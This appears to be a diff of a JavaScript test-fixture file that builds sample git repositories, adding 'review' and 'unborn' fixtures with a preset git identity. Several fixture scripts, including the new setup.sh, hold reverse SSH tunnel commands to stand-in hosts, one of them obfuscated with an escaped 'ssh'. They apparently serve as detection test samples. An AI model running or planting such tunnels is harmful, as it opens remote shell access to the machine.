@@ -23,6 +23,8 @@ export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
 export const windows = [
   { name: "repository", prepare: (folder) => ({ folder: changedRepository(folder) }) },
   { name: "example", prepare: (folder) => ({ folder: makeExample(folder).repository }) },
+  { name: "review", prepare: (folder) => ({ folder: reviewersRepository(folder) }) },
+  { name: "unborn", prepare: (folder) => ({ folder: unbornRepository(folder) }) },
   { name: "plain-folder", prepare: (folder) => ({ folder: plainFolder(folder) }) },
   { name: "two-folders", prepare: twoFolders },
   { name: "start", isBench: true, prepare: (folder) => ({ folder: plainFolder(folder) }) },
@@ -44,6 +46,23 @@ export function changedRepository(folder) {
     "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n${tunnel}\n`,
     "new file.sh": `#!/bin/sh\n${tunnel}\n`,
   });
+  return folder;
+}
+
+/** The same, where git knows who reviews. */
+export function reviewersRepository(folder) {
+  changedRepository(folder);
+  git(folder, "config", "user.name", "Ada");
+  git(folder, "config", "user.email", "ada@example.invalid");
+  return folder;
+}
+
+/** A repository without a commit. */
+function unbornRepository(folder) {
+  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n` });
+  git(folder, "init", "-q", "-b", "main");
+  git(folder, "config", "user.name", "Ada");
+  git(folder, "config", "user.email", "ada@example.invalid");
   return folder;
 }
 
